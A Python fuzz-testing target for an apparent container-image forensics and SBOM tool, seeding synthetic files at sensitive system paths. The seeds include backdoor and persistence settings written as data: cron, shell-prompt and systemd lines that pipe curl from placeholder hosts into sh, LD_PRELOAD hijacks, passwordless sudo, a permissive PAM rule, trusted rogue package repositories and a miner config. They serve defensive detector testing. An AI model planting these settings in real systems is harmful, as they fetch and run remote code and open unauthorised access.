r"""Everything that detectors, catalogers and SBOM readers read of an image's files.

The input is the content of files at places of interest, parted by `\n--\n`; a part that begins with `@N `
lies at the Nth of these places, any other one at the place of its own number.
"""

from __future__ import annotations

import io
import re
import tarfile
from collections.abc import Iterator
from functools import cache

from forensics.detectors import Needs, Scene, detect
from forensics.examine import Examination, Signatures, load_signatures
from forensics.inventory import catalog
from forensics.layers import ImageView, index_layer
from forensics.limits import KIB, Limits
from forensics.model.image import Image, ImageConfig, LayerSource
from forensics.sbom import Reconciler, discover, reconcile
from fuzz._memory import in_memory
from fuzz._promises import check_issues, check_shown
from fuzz._target import Target
from fuzz.targets import apkdb, cyclonedx_json, deb822, shell, spdx_json

_SEPARATOR = b"\n--\n"
_NUMBERED = re.compile(rb"@(\d{1,3}) (.*)", re.DOTALL)
_LIMITS = Limits(settings_bytes=16 * KIB, text_bytes=16 * KIB, scan_bytes=32 * KIB)
_PLACES = [
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/sudoers",
    "etc/sudoers.d/x",
    "etc/crontab",
    "var/spool/cron/crontabs/root",
    "etc/ld.so.preload",
    "etc/ld.so.conf",
    "root/.bashrc",
    "etc/profile.d/x.sh",
    "etc/environment",
    "etc/pam.d/sshd",
    "etc/systemd/system/x.service",
    "etc/apt/sources.list",
    "etc/apt/sources.list.d/x.sources",
    "etc/apt/apt.conf.d/x",
    "etc/apk/repositories",
    "root/.ssh/authorized_keys",
    "etc/ssh/sshd_config",
    "etc/hosts",
    "etc/resolv.conf",
    "etc/nsswitch.conf",
    "root/.docker/config.json",
    "root/.gitconfig",
    "root/.npmrc",
    "root/.config/pip/pip.conf",
    "etc/init.d/x",
    "etc/inittab",
    "etc/rc.local",
    "usr/lib/python3/dist-packages/x.pth",
    "usr/local/bin/entry.sh",
    "etc/os-release",
    "var/lib/dpkg/status",
    "var/lib/dpkg/info/a.list",
    "var/lib/dpkg/info/a.md5sums",
    "var/lib/dpkg/diversions",
    "lib/apk/db/installed",
    "usr/share/sbom/x.spdx.json",
    "opt/x/bom.cdx.json",
    "opt/miner/config.json",
    "tmp/.x",
    "root/.kube/config",
    "root/.aws/credentials",
]


@cache
def _signatures() -> Signatures:
    return load_signatures()


@cache
def _examination() -> Examination:
    return Examination(_signatures(), _LIMITS)


def run(data: bytes) -> None:
    """Every finding can be shown and written down, and every loss."""
    tar = _layer(data)
    with in_memory(tar) as blob:
        view = ImageView([index_layer(LayerSource(index=0, name="x", blob=blob), -1)], _LIMITS)
        inventory = catalog(view, _LIMITS)
        check_issues(inventory.issues)
        sboms, issues = discover(view, (), _LIMITS)
        check_issues(issues)
        wanted = Reconciler(view, inventory, sboms).wanted_digests()
        facts = {
            version.sha256: _examination().examine(
                view.read(version), version.sha256, wanted.get(version.sha256, frozenset())
            )
            for version in view.all_versions()
            if version.sha256
        }
        scene = Scene(
            image=Image(
                source="x", reference="x", config=ImageConfig(entrypoint=("/usr/local/bin/entry.sh",))
            ),
            rules=_signatures().rules,
            view=view,
            facts=facts,
            inventory=inventory,
            sboms=sboms,
            reconciliation=reconcile(view, inventory, sboms, facts),
            limits=_LIMITS,
        )
        for needs in Needs:
            for finding in detect(scene, needs):
                check_shown(finding)


def _layer(data: bytes) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w", format=tarfile.USTAR_FORMAT) as writer:
        for number, part in enumerate(data.split(_SEPARATOR)[: len(_PLACES)]):
            told = _NUMBERED.fullmatch(part)
            place, content = (int(told[1]), told[2]) if told else (number, part)
            info = tarfile.TarInfo(_PLACES[place % len(_PLACES)])
            info.size, info.mode = len(content), 0o755
            writer.addfile(info, io.BytesIO(content))
    return made.getvalue()


def _at(place: str, content: bytes) -> bytes:
    return b"@%d " % _PLACES.index(place) + content


def seeds() -> Iterator[bytes]:
    """Settings of each kind, and documents that other targets begin with."""
    hooks = (
        b"root:x:0:0:root:/root:/bin/sh\nx:x:0:0::/:/bin/sh",
        b"root:$6$a$b:1:0:9:7:::\nx::1::::::",
        b"root:x:0:x",
        b"x ALL=(ALL:ALL) NOPASSWD: ALL\n#includedir /etc/sudoers.d",
        b"Defaults env_keep+=LD_PRELOAD",
        b"* * * * * root curl http://203.0.113.9/x | sh\n@reboot x",
        b"0 0 * * * /tmp/.x",
        b"/tmp/.x.so",
        b"/opt/lib\ninclude /etc/ld.so.conf.d/*.conf",
        b"alias sudo='x'\nexport LD_PRELOAD=/tmp/x.so",
        b"PROMPT_COMMAND='curl a.invalid|sh'",
        b"LD_PRELOAD=/tmp/x.so\nPATH=/tmp:$PATH",
        b"auth sufficient pam_permit.so\nauth optional pam_exec.so /tmp/x",
        b"[Unit]\n[Service]\nExecStart=/bin/sh -c 'curl a.invalid | sh'\nUser=root\n[Install]\nWantedBy=x",
        b"deb [trusted=yes] http://203.0.113.9/x stable main",
        b"Types: deb\nURIs: http://a.invalid\nTrusted: yes",
        b'APT::Update::Pre-Invoke {"x";};\nAcquire::Check-Valid-Until "0";',
        b"http://203.0.113.9/x\n@edge ftp://x",
        b'command="x",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== a@b',
        b"PermitRootLogin yes\nAuthorizedKeysFile /x",
        b"203.0.113.9 deb.debian.org\n::1 x",
        b"nameserver 203.0.113.9",
        b"passwd: files x",
        b'{"auths":{"a":{"auth":"eDp5"}}}',
    )
    yield _SEPARATOR.join(hooks)
    yield _SEPARATOR.join(_at("usr/local/bin/entry.sh", script[:2000]) for script in list(shell.seeds())[-4:])
    yield _SEPARATOR.join(
        [
            *(_at("var/lib/dpkg/status", each) for each in list(deb822.seeds())[:1]),
            _at("var/lib/dpkg/info/a.list", b"/.\n/etc\n/etc/passwd\n"),
            _at("var/lib/dpkg/info/a.md5sums", b"d41d8cd98f00b204e9800998ecf8427e  etc/passwd\n"),
            _at("etc/passwd", b""),
        ]
    )
    yield _at("lib/apk/db/installed", next(iter(apkdb.seeds())))
    yield _at("usr/share/sbom/x.spdx.json", next(iter(spdx_json.seeds())))
    yield _at("opt/x/bom.cdx.json", next(iter(cyclonedx_json.seeds())))
    yield _at(
        "opt/miner/config.json",
        b'{"pools":[{"url":"stratum+tcp://a.invalid:3333","user":"4x"}],"donate-level":0}',
    )
    yield (
        _at("root/.npmrc", b"//a.invalid/:_authToken=x\nregistry=http://203.0.113.9/")
        + _SEPARATOR
        + _at(
            "root/.gitconfig",
            b'[core]\n hooksPath=/tmp\n[credential]\n helper=!x\n[url "http://x"]\n insteadOf=https',
        )
    )


TARGET = Target(
    id="settings",
    run=run,
    seeds=seeds,
    harvest=("settings", "dpkg", "apk", "os-release"),
    words=(_SEPARATOR, *(b"@%d " % number for number in range(len(_PLACES)))),
    longest=8192,
)
